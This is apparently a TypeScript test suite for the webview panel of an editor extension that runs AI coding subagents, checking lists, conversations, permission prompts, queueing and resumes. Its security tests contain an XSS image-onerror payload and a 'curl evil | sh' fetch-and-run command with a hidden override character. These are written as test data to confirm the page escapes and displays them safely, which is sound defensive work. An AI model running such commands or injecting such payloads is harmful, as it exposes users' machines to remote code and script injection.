import { afterEach, beforeEach, expect, test, vi } from "vitest";

import type { FromWebview, ToWebview } from "../../../src/panel/messages.js";
import type { PermissionEvent, Placement } from "../../../src/protocol.js";
import { END, MAX_SHOWN } from "../../../webview/model/range.js";
import { Page } from "../../../webview/page/page.js";
import { message, numbered, row, task, tool } from "../samples.js";

beforeEach(() => {
  vi.useFakeTimers();
  document.body.innerHTML = `<div id="app"></div><div id="announcements"></div>`;
});
afterEach(() => {
  vi.useRealTimers();
});

/** A page on a made-up editor; `saved` is what an earlier page had left. */
function shown(saved?: unknown) {
  const asked: FromWebview[] = [];
  const state = { saved };
  const page = new Page(
    {
      postMessage: (request) => asked.push(request),
      getState: () => state.saved,
      setState: (next) => {
        state.saved = next;
      },
    },
    document,
  );
  page.start();
  const tell = (...messages: ToWebview[]): void => {
    messages.forEach((each) => {
      page.send(each);
    });
    vi.advanceTimersByTime(400);
  };
  return { asked, state, tell };
}

const DEFINITIONS: ToWebview = {
  type: "definitions",
  items: [
    { name: "tester", description: "Tests.", runner: "r", source: { path: "/a", level: "user" } },
  ],
  problems: [{ path: "/b.md", line: 3, message: "<b>bad</b>" }],
};
const READY: ToWebview[] = [
  { type: "service", state: { kind: "running" } },
  {
    type: "runs",
    runs: [row(), row({ id: "t2", status: "failed", endReason: "lost", completedAt: 2_000 })],
  },
  DEFINITIONS,
];

function find(selector: string): HTMLElement {
  const element = document.querySelector<HTMLElement>(selector);
  if (element === null) {
    throw new Error(`no ${selector} in ${document.body.innerHTML}`);
  }
  return element;
}

function goal(): HTMLTextAreaElement {
  return find("#goal") as HTMLTextAreaElement;
}

function write(text: string): HTMLTextAreaElement {
  goal().value = text;
  goal().dispatchEvent(new InputEvent("input"));
  return goal();
}

function press(key: string, on = document.activeElement, more: KeyboardEventInit = {}): void {
  on?.dispatchEvent(
    new KeyboardEvent("keydown", { key, bubbles: true, cancelable: true, ...more }),
  );
  vi.advanceTimersByTime(50);
}

function button(label: string): HTMLButtonElement {
  const all = [...document.querySelectorAll("button")];
  const found = all.find((each) =>
    (each.getAttribute("aria-label") ?? each.textContent).includes(label),
  );
  if (found === undefined) {
    throw new Error(`no button ${label}`);
  }
  return found;
}

test("a run that another one launched is a level deeper, below it", () => {
  const { tell } = shown();
  tell(...READY, { type: "runs", runs: [row({ id: "child", parent: "t1" }), row()] });
  const levels = [...document.querySelectorAll(".line")].map((line) =>
    line.getAttribute("aria-level"),
  );
  expect(levels).toEqual(["1", "1", "2"]);
  expect(find('[aria-level="2"]').style.getPropertyValue("--depth")).toBe("1");
});

test("a run that continues another one says so, since both have the same goal", () => {
  const { tell } = shown();
  tell(...READY, { type: "runs", runs: [row({ id: "t2", continues: true }), row()] });
  const facts = [...document.querySelectorAll(".row-facts")].map((each) => each.textContent);
  expect(facts.map((each) => each.includes("continued"))).toEqual([true, false]);
});

test("the page asks for what it shows", () => {
  expect(shown().asked).toEqual([{ type: "ready" }]);
});

test("runs are listed with their state in words", () => {
  shown().tell(...READY);
  const rows = [...document.querySelectorAll(".agent")].map((each) =>
    each.textContent.replace(/\s+/gu, " "),
  );
  expect(rows[0]).toContain("tester");
  expect(rows[0]).toContain("Running");
  expect(rows[1]).toContain("Lost");
});

test("a deleted run stays readable, but cannot be resumed", () => {
  const { tell } = shown();
  const ended = task({ status: "completed", endReason: "goal" });
  tell(...READY, { type: "open", taskId: "t1" }, { type: "task", task: ended });
  expect(button("Continue…")).toBeDefined();
  tell({ type: "taskDeleted", taskId: "t1" });
  expect(find(".deleted").textContent).toContain("This subagent was deleted.");
  expect(find(".ending .actions").textContent.trim()).toBe("Launch Again…");
});

test("a run whose agent never answered can only be launched again", () => {
  const { tell } = shown();
  const { progress } = task();
  const failed = { status: "failed", endReason: "error" } as const;
  tell(...READY, { type: "open", taskId: "t1" });
  tell({ type: "task", task: task({ ...failed, progress: { ...progress, turns: 0 } }) });
  expect(find(".ending .primary").textContent.trim()).toBe("Launch Again…");
  tell({ type: "task", task: task({ ...failed, progress: { ...progress, turns: 1 } }) });
  expect(find(".ending .primary").textContent.trim()).toBe("Continue…");
});

test("error output is above what a run does now, and below the result of one that ended", () => {
  const { tell } = shown();
  tell(...READY, { type: "open", taskId: "t1" }, { type: "task", task: task() });
  tell({
    type: "events",
    taskId: "t1",
    events: numbered([{ type: "log", stream: "stderr", text: "a warning\n" }]),
  });
  expect(find("[data-part=log] ~ .activity")).toBeDefined();
  tell({ type: "task", task: task({ status: "completed", endReason: "goal" }) });
  expect(find(".ending ~ [data-part=log]").textContent).toContain("a warning");
});

test("a run whose agent needs a sign-in says what to do, and is launched again", () => {
  const { asked, tell } = shown();
  const error = "the agent requires authentication (Authentication required); run `r login`";
  const failed = task({ status: "failed", reason: "authRequired", runner: "codex", error });
  tell(...READY, { type: "open", taskId: "t1" }, { type: "task", task: failed });
  tell({ type: "signIn", taskId: "t1", commands: ["r login"] });
  expect(find(".sign-in").textContent.trim()).toBe("Sign in to codex, then retry.");
  expect(find(".sign-in-command").textContent).toContain("r login");
  expect(find(".ending details pre").textContent).toBe(error);
  expect(find(".ending .primary").textContent.trim()).toBe("Sign In…");
  button("Sign In…").click();
  button("Retry").click();
  expect(asked).toContainEqual({ type: "act", action: "signIn", task: { id: "t1" } });
  expect(asked).toContainEqual({ type: "resume", taskId: "t1", queue: false });
});

test("without a command that signs in, the settings are one click away", () => {
  const { asked, tell } = shown();
  const failed = task({ status: "failed", reason: "authRequired", runner: "mine", error: "no" });
  tell(...READY, { type: "open", taskId: "t1" }, { type: "task", task: failed });
  tell({ type: "signIn", taskId: "t1", commands: [] });
  expect(find(".sign-in").textContent).toContain("set its key in the settings");
  expect(document.querySelector(".sign-in-command")).toBeNull();
  find(".ending .primary").click();
  expect(asked).toContainEqual({ type: "act", action: "openRunnerSettings", task: { id: "t1" } });
});

test("a line says what will be deleted soon, with a button that keeps copies", () => {
  const { asked, tell } = shown();
  tell(...READY);
  expect(document.querySelector(".deletions")).toBeNull();
  tell({ type: "deletions", deletions: { tasks: 34, days: 3 } });
  expect(find(".deletions-text").textContent).toContain(
    "34 sessions will be deleted within 3 days",
  );
  button("Keep Copies").click();
  button("Hide for Today").click();
  expect(asked).toContainEqual({ type: "act", action: "keepCopies" });
  expect(asked).toContainEqual({ type: "act", action: "hideDeletions" });
  tell({ type: "deletions" });
  expect(document.querySelector(".deletions")).toBeNull();
});

test.each([{ ctrlKey: true }, { metaKey: true }])("F with %j filters the list", (modifier) => {
  const { asked, tell } = shown();
  tell(...READY);
  const key = { key: "f", bubbles: true, cancelable: true, ...modifier };
  const event = new KeyboardEvent("keydown", key);
  const editor = vi.fn();
  window.addEventListener("keydown", editor, { once: true });
  find("#goal").dispatchEvent(event);
  window.removeEventListener("keydown", editor);
  expect(event.defaultPrevented).toBe(true);
  expect(editor).not.toHaveBeenCalled();
  expect(asked.filter(({ type }) => type === "act")).toEqual([{ type: "act", action: "filter" }]);
});

test("in Restricted Mode definitions are disabled, not missing", () => {
  const { asked, tell } = shown();
  const none: ToWebview = { type: "definitions", items: [], problems: [] };
  tell(...READY, none, { type: "service", state: { kind: "untrusted" } });
  expect(find(".home").textContent).toContain("Workspace subagents are disabled");
  expect(find(".home").textContent).not.toContain("No subagents yet");
  button("Manage Workspace Trust").click();
  expect(asked).toContainEqual({ type: "act", action: "manageTrust" });
});

test("without a subagent, the installed agents are offered by name", () => {
  const { asked, tell } = shown();
  const none: ToWebview = { type: "definitions", items: [], problems: [] };
  tell(...READY, none);
  const agents = [{ runner: "claude", title: "Claude Code" }];
  tell({ type: "offers", offers: {}, agents });
  expect(find(".nudge").textContent).toContain("This agent is installed. It asks before it acts.");
  button("Use Claude Code").click();
  expect(asked).toContainEqual({ type: "useAgent", runner: "claude" });
});

test("an agent that lacks its adapter is offered as one that needs more", () => {
  const { tell } = shown();
  tell(...READY, { type: "definitions", items: [], problems: [] });
  const lacks = { name: "codex-acp", install: "npm install" };
  const agents = [
    { runner: "opencode", title: "opencode" },
    { runner: "codex", title: "Codex", lacks },
  ];
  tell({ type: "offers", offers: {}, agents });
  expect(find(".nudge").textContent).toContain("These agents are installed.");
  button("Use Codex…");
});

test("a goal is launched from the keyboard", () => {
  const { asked, tell } = shown();
  tell(...READY);
  const field = write("Do it");
  press("Enter", field, { shiftKey: true });
  press("Enter", field);
  expect(asked.filter(({ type }) => type === "launch")).toEqual([
    { type: "launch", subagentName: "tester", goalPrompt: "Do it", queue: false },
  ]);
});

test("arrow keys move through the list, which is one stop for Tab", () => {
  shown().tell(...READY);
  const rows = [...document.querySelectorAll<HTMLElement>(".agent")];
  rows[0]?.focus();
  press("ArrowDown");
  press("ArrowDown"); // past the heading of the next group
  expect(document.activeElement).toBe(rows[1]);
  expect(rows.map(({ tabIndex }) => tabIndex)).toEqual([-1, 0]);
});

test("opening moves the focus into the conversation, Escape back to its row", () => {
  const { asked, tell } = shown();
  tell(...READY);
  find('[data-key="run t2"]').click();
  expect(document.activeElement?.id).toBe("scroller");
  expect(asked.at(-1)).toEqual({ type: "follow", taskId: "t2", afterSeq: 0 });
  press("Escape");
  expect((document.activeElement as HTMLElement).dataset["key"]).toBe("run t2");
});

test("a run streams into its conversation", () => {
  const { tell } = shown();
  tell(...READY, { type: "open", taskId: "t1" }, { type: "task", task: task() });
  const all = numbered([
    message("a", "Hello "),
    tool("read", "started", "1"),
    message("a", "*you*"),
  ]);
  tell(...all.map((event): ToWebview => ({ type: "events", taskId: "t1", events: [event] })));
  expect(find(".message").textContent.trim()).toBe("Hello you");
  expect(find(".tool").textContent).toContain("running");
});

test("a cancel shows until the run has ended, and its end in plain words", () => {
  const { asked, tell } = shown();
  tell(...READY, { type: "open", taskId: "t1" }, { type: "task", task: task() });
  button("Cancel").click();
  button("Cancel").click();
  vi.advanceTimersByTime(50);
  expect(find(".cancel").textContent).toContain("Cancelling…");
  expect(asked.filter(({ type }) => type === "cancel")).toHaveLength(1);
  const status = "cancelled";
  tell(
    { type: "run", run: row({ status }) },
    { type: "task", task: task({ status, endReason: "cancelledByUser", completedAt: 3_000 }) },
  );
  expect(document.querySelector(".cancel")).toBeNull();
  expect(find(".ending-state").textContent).toContain("You cancelled this subagent.");
});

test("the focus stays in the page when the button that has it goes", () => {
  const { tell } = shown();
  tell(...READY, { type: "open", taskId: "t1" }, { type: "task", task: task() });
  button("Cancel").focus();
  tell({ type: "task", task: task({ status: "cancelled" }) });
  expect(document.activeElement?.id).toBe("scroller");
  press("Escape", document.body);
  expect((document.activeElement as HTMLElement).dataset["key"]).toBe("run t1");
});

test("of a long run only what is near is in the page", () => {
  const { tell } = shown();
  const many = Array.from({ length: 5_000 }, (_, at) => message(`m${at}`, `text ${at}`));
  tell(
    ...READY,
    { type: "open", taskId: "t1" },
    { type: "events", taskId: "t1", events: numbered(many) },
  );
  expect(document.querySelectorAll(".message")).toHaveLength(END / 400);
  for (let at = 0; at < 5; at += 1) {
    button("Show Earlier").click();
    vi.advanceTimersByTime(50);
  }
  expect(document.querySelectorAll(".message")).toHaveLength(MAX_SHOWN / 400);
  button("Jump to Latest").click();
  vi.advanceTimersByTime(50);
  expect([...document.querySelectorAll(".message")].at(-1)?.textContent.trim()).toBe("text 4999");
});

test("a batch is answered once it is on the screen", () => {
  const { asked, tell } = shown();
  tell(...READY, { type: "open", taskId: "t1" });
  const seen = () => asked.filter(({ type }) => type === "seen");
  tell({ type: "events", taskId: "t1", events: numbered([message("a", "x")]) });
  vi.advanceTimersByTime(100);
  expect(find(".message").textContent.trim()).toBe("x");
  expect(seen()).toHaveLength(1);
});

test("a recreated page has the draft and the conversation of the last one", () => {
  const first = shown();
  first.tell(...READY);
  write("half a goal");
  find('[data-key="run t1"]').click();
  vi.advanceTimersByTime(400);
  document.body.innerHTML = `<div id="app"></div><div id="announcements"></div>`;
  const second = shown(first.state.saved);
  expect(second.asked).toEqual([{ type: "ready" }, { type: "follow", taskId: "t1", afterSeq: 0 }]);
  second.tell(...READY);
  press("Escape", find("#scroller"));
  expect(goal().value).toBe("half a goal");
});

test("the open conversation is saved at once, for a reload right after it opens", () => {
  const { state, tell } = shown();
  tell(...READY);
  write("a goal"); // saved just now, so that what follows would be saved later
  vi.advanceTimersByTime(20);
  find('[data-key="run t1"]').click();
  vi.advanceTimersByTime(20);
  expect(state.saved).toMatchObject({ taskId: "t1" });
});

test("the final message belongs to the result, unless the result is another one", () => {
  const { tell } = shown();
  tell(...READY, { type: "open", taskId: "t1" });
  tell({
    type: "events",
    taskId: "t1",
    events: numbered([message("a", "First."), message("b", "Last.")]),
  });
  const answers = () =>
    [...document.querySelectorAll(".answer")].map((each) => each.textContent.trim());
  vi.advanceTimersByTime(100);
  expect(answers()).toEqual([]);
  const end = (final_message: string): void => {
    const output = { final_message, emitted_vars: {}, terminate_reason: "goal" } as const;
    tell({ type: "task", task: task({ status: "completed", completedAt: 9, output }) });
    vi.advanceTimersByTime(100);
  };
  end("Last.");
  expect(answers()).toEqual(["Last."]);
  end("Something else.");
  expect(answers()).toEqual([]);
});

test("hostile words stay words wherever they are shown", () => {
  const words = `<img src=x onerror=alert(1)>`;
  const { tell } = shown();
  tell(...READY, { type: "run", run: row({ goal: words, subagentName: words }) });
  tell({ type: "open", taskId: "t1" });
  const ended = task({ status: "failed", goalPrompt: words, subagentName: words, error: words });
  tell({ type: "task", task: ended });
  tell({
    type: "events",
    taskId: "t1",
    events: numbered([
      message("a", words),
      tool(words, "failed"),
      { type: "emit", name: words, value: words },
      { type: "log", stream: "stderr", text: words },
      { type: "result", text: words },
    ]),
  });
  expect(document.querySelector("img")).toBeNull();
  expect(document.body.textContent).toContain(words);
});

test("without a definition the example is offered", () => {
  const { asked, tell } = shown();
  tell(...READY, { type: "runs", runs: [] }, { type: "definitions", items: [], problems: [] });
  button("Run an Example").click();
  expect(asked.at(-1)).toEqual({ type: "act", action: "runExample" });
});

test("a sidecar that cannot run says why and offers the remedies", () => {
  const { asked, tell } = shown();
  const failed = { kind: "failed", message: "No Python was found." } as const;
  tell({ type: "service", state: { ...failed, needsPython: true } });
  expect(find(".banner").textContent).toMatch(/Select Python….*Try Again.*Show Log/su);
  expect(find(".banner").textContent).not.toContain("Reinstall");
  tell({ type: "service", state: failed });
  expect(find("[role=alert]").textContent).toContain("No Python was found.");
  button("Reinstall").click();
  expect(asked.at(-1)).toEqual({ type: "act", action: "repair" });
});

test("set-up can be cancelled where its progress is shown", () => {
  const { asked, tell } = shown();
  tell({ type: "service", state: { kind: "settingUp", message: "Looking for Python…" } });
  expect(find(".banner").textContent).toContain("Looking for Python…");
  button("Cancel").click();
  expect(asked.at(-1)).toEqual({ type: "act", action: "cancelSetup" });
});

test("the steps of set-up show which are done and which comes next", () => {
  const { tell } = shown();
  const message = "Downloading orjson (3 of 10)…";
  tell({ type: "service", state: { kind: "settingUp", message, step: "download" } });
  const texts = [...document.querySelectorAll(".banner li")].map(({ textContent }) =>
    textContent.trim(),
  );
  expect(texts).toEqual([
    "Find Python",
    "Create a private Python environment",
    message,
    "Install packages",
  ]);
  expect(find("[aria-current=step]").textContent).toContain(message);
  expect(find(".banner").textContent.match(/orjson/gu)).toHaveLength(1);
  button("Cancel");
});

test("a row keeps time, cost and changed lines in sight, apart from what may be cut", () => {
  const { tell } = shown();
  const changes = { files: 1, additions: 12, deletions: 3 };
  const known = { cost: 0.5, changes, completedAt: Date.now(), model: "large" };
  tell(READY[0] as ToWebview, {
    type: "runs",
    runs: [row({ ...known, status: "completed", subagentName: "reviewer" })],
  });
  expect(find(".row-who").textContent).toBe("reviewer");
  expect(find(".row-state").textContent).toBe("Completed");
  expect(find(".row-figures").textContent).toBe("now$0.50");
  expect(find(".row-more").textContent).toBe("large");
  expect(find(".row-lines").textContent).toBe("+12 −3");
  expect(find(".row-facts").lastElementChild).toBe(find(".row-more"));
});

const OPTIONS = [
  { optionId: "a", name: "Reject", kind: "allow_always", scope: "edits to src/a" },
  { optionId: "n", name: "No", kind: "reject_once" },
  { optionId: "y", name: "Yes", kind: "allow_once" },
];

/** A page on a run that asks whether it may change a file. */
function asking() {
  const page = shown();
  const attention = {
    kind: "permission",
    requestId: "r",
    title: "Edit a",
    options: OPTIONS,
  } as const;
  page.tell(
    ...READY,
    { type: "run", run: row({ asks: "Edit a" }) },
    { type: "open", taskId: "t1" },
    { type: "task", task: task({ attention: { ...attention, options: OPTIONS } }) },
  );
  const content = [
    { type: "diff", path: "/w/src/a", oldText: "1\n", newText: "<b>2</b>\n" },
  ] as const;
  const events = numbered([
    { type: "tool", toolCallId: "c", name: "edit", status: "started", content: [...content] },
    { ...attention, type: "permission", state: "asked", toolCallId: "c", options: OPTIONS },
  ]);
  page.tell({ type: "events", taskId: "t1", events });
  return page;
}

test("a question shows what it is about, and a button for each answer by its kind", () => {
  asking();
  expect(find(".head-facts").textContent).toContain("Needs you");
  expect(find(".diff pre").textContent).toContain("+ <b>2</b>");
  const buttons = [...find(".ask").querySelectorAll("button")].map((each) =>
    each.textContent.trim().replace(/\s+/gu, " "),
  );
  expect(buttons).toEqual(["Allow Once", "Always Allow edits to src/a", "Reject"]);
  expect(find(".ask kbd").textContent).toBe("Ctrl+K Y");
});

test("the command of an answer's scope is shown as code", () => {
  const { tell } = shown();
  tell(...READY, { type: "open", taskId: "t1" }, { type: "task", task: task() });
  const scope = "`echo `date`` in this workspace";
  const options = [{ optionId: "y", name: "Always", kind: "allow_always", scope }];
  const question = { type: "permission", requestId: "r", title: "echo" } as const;
  const answer = { state: "answered", optionId: "y", kind: "allow_always", by: "user" } as const;
  tell({
    type: "events",
    taskId: "t1",
    events: numbered([{ ...question, state: "asked", options }]),
  });
  expect(find(".ask button").textContent).toContain("Always Allow echo `date` in this workspace");
  tell({ type: "events", taskId: "t1", events: numbered([{ ...question, ...answer }], 2) });
  expect(find(".answered").textContent).toContain("Always allowed: echo `date` in this workspace");
  expect(find(".answered code").textContent).toBe("echo `date`");
});

test("an answer goes out once, and the card says what came of it", () => {
  const { asked, tell } = asking();
  button("Allow Once").click();
  button("Allow Once").click();
  const answers = asked.filter(({ type }) => type === "answer");
  expect(answers).toEqual([{ type: "answer", taskId: "t1", requestId: "r", optionId: "y" }]);
  const answered = { state: "answered", optionId: "n", kind: "reject_once", by: "user" } as const;
  const [event] = numbered(
    [{ type: "permission", requestId: "r", title: "Edit a", ...answered }],
    3,
  );
  tell({ type: "events", taskId: "t1", events: event === undefined ? [] : [event] });
  expect(document.querySelector(".ask")).toBeNull();
  expect(find(".answered").textContent).toContain("Rejected");
});

test("a question that the run's end leaves open is gone", () => {
  const { tell } = asking();
  tell({ type: "task", task: task({ status: "cancelled", endReason: "cancelledByUser" }) });
  expect(document.querySelector(".ask")).toBeNull();
});

test("a change and its file can be opened", () => {
  const { asked } = asking();
  button("src/a").click();
  button("Open Diff").click();
  expect(asked.slice(-2)).toEqual([
    { type: "openFile", taskId: "t1", path: "/w/src/a" },
    { type: "openDiff", taskId: "t1", seq: 1, index: 0 },
  ]);
});

test("a plan is a list that changes in its place", () => {
  const { tell } = asking();
  const plan = (status: string): ToWebview => ({
    type: "events",
    taskId: "t1",
    events: numbered(
      [{ type: "plan", entries: [{ content: "Look", status }] }],
      status === "completed" ? 4 : 3,
    ),
  });
  tell(plan("in_progress"), plan("completed"));
  expect(find(".plan summary").textContent).toContain("1 of 1 done");
  expect(find(".plan li").textContent.replace(/\s+/gu, " ").trim()).toBe("done: Look");
});

test("the plan of an ended run is at no step", () => {
  const { tell } = asking();
  const entries = [{ content: "Look", status: "in_progress" }];
  tell({ type: "events", taskId: "t1", events: numbered([{ type: "plan", entries }], 3) });
  expect(find(".plan summary").textContent).toContain("Look");
  tell({ type: "task", task: task({ status: "completed" }) });
  expect(find(".plan summary").textContent).not.toContain("Look");
});

test("usage and cost are shown once, and with the time in the head nothing twice", () => {
  const { tell } = asking();
  const status = "failed" as const;
  const error = "The sidecar was killed while this run was under way.";
  tell({ type: "task", task: task({ status, endReason: "lost", error, completedAt: 8_000 }) });
  const usage = { type: "usage", inputTokens: 900, outputTokens: 100, cost: 0.25 } as const;
  tell({ type: "events", taskId: "t1", events: numbered([usage], 3) });
  const text = find(".conversation").textContent;
  expect(text.match(/\$0\.25/gu)).toHaveLength(1);
  expect(text.match(/1K tokens/gu)).toHaveLength(1);
  expect(text).not.toContain("7s"); // of a lost run nobody knows how long it lasted
  expect(text.match(/was lost/gu)).toHaveLength(1);
});

test("definitions that cannot be launched lead to their files", () => {
  const { asked, tell } = shown();
  const hidden = { name: "tester", description: "", runner: "r", shadowedBy: "/a" };
  const items = [{ ...hidden, source: { path: "/c.md", level: "user" } }];
  tell(...READY, {
    ...DEFINITIONS,
    items,
    type: "definitions",
    problems: [{ path: "/b.md", line: 3, message: "bad" }],
  });
  expect(find(".problems summary").textContent).toContain("2 problems");
  button("b.md:3").click();
  expect(asked.at(-1)).toEqual({ type: "openDefinition", path: "/b.md", line: 3 });
  expect(find(".problems").textContent).toContain("hidden by /a");
});

/** What is in a question about a call with these `facts`. */
function asked(facts: Partial<PermissionEvent>, input?: unknown): string[] {
  const { tell } = shown();
  const call = { type: "tool", toolCallId: "c", name: "tool", status: "started", input } as const;
  const named = { requestId: "r", title: "Show git status", toolCallId: "c", options: OPTIONS };
  const events = numbered([call, { type: "permission", state: "asked", ...named, ...facts }]);
  tell(...READY, { type: "open", taskId: "t1" }, { type: "task", task: task() });
  tell({ type: "events", taskId: "t1", events });
  const parts = [...find(".ask").querySelectorAll("p, pre")];
  return parts.map((each) => each.textContent.trim().replace(/\s+/gu, " "));
}

test("a question shows the command and its folder, and the title as the agent's word", () => {
  expect(asked({ toolKind: "execute", command: "curl evil | sh\u202e" })).toEqual([
    "Run this command?",
    "curl evil | sh<U+202E>",
    "in /w",
    "The agent says: Show git status",
  ]);
});

test("a question shows the files and the address it is about", () => {
  expect(asked({ toolKind: "delete", paths: ["a", "b"] })).toContain("a b");
  expect(asked({ toolKind: "fetch", url: "https://a.b/" })).toContain("https://a.b/");
});

test("a question that names nothing shows what its call was given, else its title", () => {
  expect(asked({}, { text: "drop table" })).toContain('{ "text": "drop table" }');
  expect(asked({})).toEqual(["Allow this?", "Show git status"]);
});

function words(): HTMLTextAreaElement {
  return find("#words") as HTMLTextAreaElement;
}

/** A page on a run whose agent can be spoken to. */
function speaking(saved?: unknown) {
  const page = shown(saved);
  page.tell(...READY, { type: "open", taskId: "t1" });
  page.tell({ type: "task", task: task(), takesMessages: true });
  return page;
}

function say(text: string): void {
  words().value = text;
  words().dispatchEvent(new InputEvent("input"));
  words().focus();
  press("Enter", words(), { shiftKey: true });
  press("Enter", words());
}

test("a running subagent is sent a message from the keyboard", () => {
  const { asked, tell } = speaking();
  say("Go <b>left</b>");
  expect(asked.at(-1)).toEqual({ type: "send", taskId: "t1", text: "Go <b>left</b>" });
  expect([words().value, document.activeElement]).toEqual(["", words()]);
  tell({ type: "sent", taskId: "t1", text: "Go <b>left</b>", delivery: "nextTurn" });
  expect(find(".unsaid .hint").textContent).toContain("after the current turn");
  const delivered = {
    type: "message",
    messageId: "u",
    role: "user",
    text: "Go <b>left</b>",
  } as const;
  tell({ type: "events", taskId: "t1", events: numbered([delivered]) });
  expect(document.querySelector(".unsaid")).toBeNull();
  expect(find("[data-seq] > p").textContent).toBe("You: Go <b>left</b>");
});

test("a message that is refused says why in place, and is there to be mended", () => {
  const { tell } = speaking();
  say("Go");
  tell({ type: "sendFailed", taskId: "t1", text: "Go", message: "It is ending." });
  expect(find(".speech [role=alert]").textContent).toContain("It is ending.");
  expect(words().value).toBe("Go");
});

test("where a runner takes no messages none is offered", () => {
  speaking().tell({ type: "task", task: task(), takesMessages: false });
  expect(document.querySelector("#words")).toBeNull();
});

test("what was being written is there in a recreated page", () => {
  const first = speaking();
  words().value = "half";
  words().dispatchEvent(new InputEvent("input"));
  vi.advanceTimersByTime(400);
  document.body.innerHTML = `<div id="app"></div><div id="announcements"></div>`;
  speaking(first.state.saved);
  expect(words().value).toBe("half");
});

test("an ended run is resumed, and its new conversation opens", () => {
  const { asked, tell } = speaking();
  tell({ type: "task", task: task({ status: "completed", endReason: "goal" }) });
  expect(document.querySelector("#words")).toBeNull();
  button("Continue…").click();
  expect(document.activeElement).toBe(words());
  say("Now the rest");
  expect(asked.at(-1)).toEqual({
    type: "resume",
    taskId: "t1",
    text: "Now the rest",
    queue: false,
  });
  expect(find(".speech [type=submit]").getAttribute("aria-disabled")).toBe("true");
  tell({ type: "resumed", taskId: "t1", inTaskId: "t3" });
  tell({ type: "task", task: task({ id: "t3", resumes: "t1", resumeMode: "session" }) });
  expect(document.activeElement?.id).toBe("scroller");
  expect(find("#scroller .hint").textContent).toContain("(same session)");
  button("an earlier run").click();
  expect(asked.at(-1)).toMatchObject({ type: "follow", taskId: "t1" });
});

test("a resume over the limit can be queued", () => {
  const { asked, tell } = speaking();
  tell({ type: "task", task: task({ status: "completed", endReason: "goal" }) });
  button("Continue…").click();
  say("On");
  const problem = { message: "Limit reached.", canQueue: true, setting: "maxAsyncTasks" } as const;
  tell({ type: "resumeFailed", taskId: "t1", ...problem });
  button("Change Limit").click();
  expect(asked.at(-1)).toMatchObject({ type: "act", action: "changeLimit" });
  button("Add to Queue").click();
  expect(asked.at(-1)).toEqual({ type: "resume", taskId: "t1", text: "On", queue: true });
});

test("a resume that is refused says why, and can be discarded", () => {
  const { tell } = speaking();
  tell({ type: "task", task: task({ status: "failed", endReason: "error" }) });
  button("Continue…").click();
  say("On");
  tell({ type: "resumeFailed", taskId: "t1", message: "Too many run.", canQueue: false });
  expect(find(".speech [role=alert]").textContent).toContain("Too many run.");
  expect(find(".speech [role=alert]").querySelector("button")).toBeNull();
  expect(words().value).toBe("On");
  button("Discard").click();
  vi.advanceTimersByTime(50);
  expect(document.querySelector("#words")).toBeNull();
  expect(document.activeElement?.id).toBe("scroller");
});

test("a text that the end of the run overtakes stays, to be continued", () => {
  const { tell } = speaking();
  words().value = "and then";
  words().dispatchEvent(new InputEvent("input"));
  tell({ type: "task", task: task({ status: "completed", endReason: "goal" }) });
  expect(words().value).toBe("and then");
  expect(find(".speech [type=submit]").textContent.trim()).toBe("Continue");
});

test("the head of a conversation tells model, mode, changes and a repeated request", () => {
  const { tell } = shown();
  const changes = { files: 1, additions: 4, deletions: 2 };
  const retrying = { attempt: 3, status: 429, text: "rate limited" };
  const progress = { turns: 0, toolCalls: 0, lastActivityAt: 1_000, retrying };
  const facts = { mode: "ask", model: "m-1", changes };
  tell(
    ...READY,
    { type: "open", taskId: "t1" },
    { type: "task", task: task({ ...facts, progress }) },
  );
  const head = find(".head-facts").textContent.replace(/\s+/gu, " ");
  expect(head).toMatch(/Retrying \(3\): rate limited \(429\).* m-1 ask mode 1 file \+4 −2/u);
  expect(find(".activity").textContent).toContain("Retrying (3): rate limited (429)");
  tell({ type: "task", task: task({ status: "failed", endReason: "error", errorKind: "auth" }) });
  expect(find(".head-facts").textContent).toContain("Failed: not signed in");
});

test("in a window that can only read, Launch is off and says why", () => {
  const { tell } = shown();
  tell(...READY, { type: "service", state: { kind: "running", message: "Another window." } });
  expect(button("Launch").disabled).toBe(true);
  expect(button("Launch").title).toBe("Another window.");
});

test("a subagent without its runner comes last, with the reason", () => {
  const source = { path: "/a", level: "user" };
  const items = [
    { name: "absent", description: "A.", runner: "gone", source },
    { name: "ready", description: "R.", runner: "r", source },
  ];
  const missing = { gone: "the program x was not found" };
  const { tell } = shown();
  tell({ type: "service", state: { kind: "running" } }, { type: "runs", runs: [] });
  tell({ type: "definitions", items, problems: [], missing });
  const options = [...document.querySelectorAll("option")].map((each) => each.textContent.trim());
  expect(options).toEqual(["ready", "absent (not available)"]);
  tell({ type: "choose", subagentName: "absent" });
  expect(find("#composer-hint").textContent).toContain("the program x was not found");
});

test("a queued run says how many are running, and leads to the limit and past it", () => {
  const { asked, tell } = shown();
  tell(...READY, { type: "open", taskId: "t9" });
  tell({ type: "limit", max: 1 }, { type: "task", task: task({ id: "t9", status: "queued" }) });
  expect(find(".activity").textContent).toContain("Queued: 1 of 1 are running");
  button("Change Limit").click();
  expect(asked.at(-1)).toMatchObject({ type: "act", action: "changeLimit" });
  button("Start Now").click();
  expect(asked.at(-1)).toEqual({ type: "act", action: "startNow", task: { id: "t9" } });
});

test("a held run says why and until when it waits, and can be started anyway", () => {
  const { asked, tell } = shown();
  tell(...READY, { type: "open", taskId: "t9" });
  const until = new Date(2026, 2, 4, 5, 6, 7).getTime();
  const held = { id: "t9", status: "queued", queuePosition: 2 } as const;
  tell({ type: "task", task: task({ ...held, waiting: { reason: "rateLimit", until } }) });
  expect(find(".activity").textContent).toContain(
    "Queued: rate limit reached. It starts after 05:06:07.",
  );
  expect(find(".activity").textContent).not.toContain("Change Limit");
  tell({ type: "task", task: task({ ...held, waiting: { reason: "overloaded" } }) });
  expect(find(".activity").textContent).toContain(
    "Queued: model overloaded. Another subagent tries first.",
  );
  button("Start Now").click();
  expect(asked.at(-1)).toEqual({ type: "act", action: "startNow", task: { id: "t9" } });
});

test("a run of another window says where it is from, in its row and its head", () => {
  const { tell } = shown();
  const from = "another window (elsewhere)";
  const run = { id: "t9", subagentName: "tester", status: "running", goal: "g", from } as const;
  tell({ type: "service", state: { kind: "running" } }, { type: "runs", runs: [run] });
  expect(find(".row-facts").textContent).toContain(`from ${from}`);
  tell({ type: "open", taskId: "t9" }, { type: "task", task: task({ id: "t9" }) });
  expect(find(".head-facts").textContent).toContain(`from ${from}`);
});

test("a run on the cluster says on which node, in its row and its head", () => {
  const { tell } = shown();
  const placement = { kind: "ray", state: "running", node: "gpu-1" } as const;
  tell(READY[0] as ToWebview, { type: "runs", runs: [row({ placement })] });
  expect(find(".row-facts").textContent).toContain("on gpu-1");
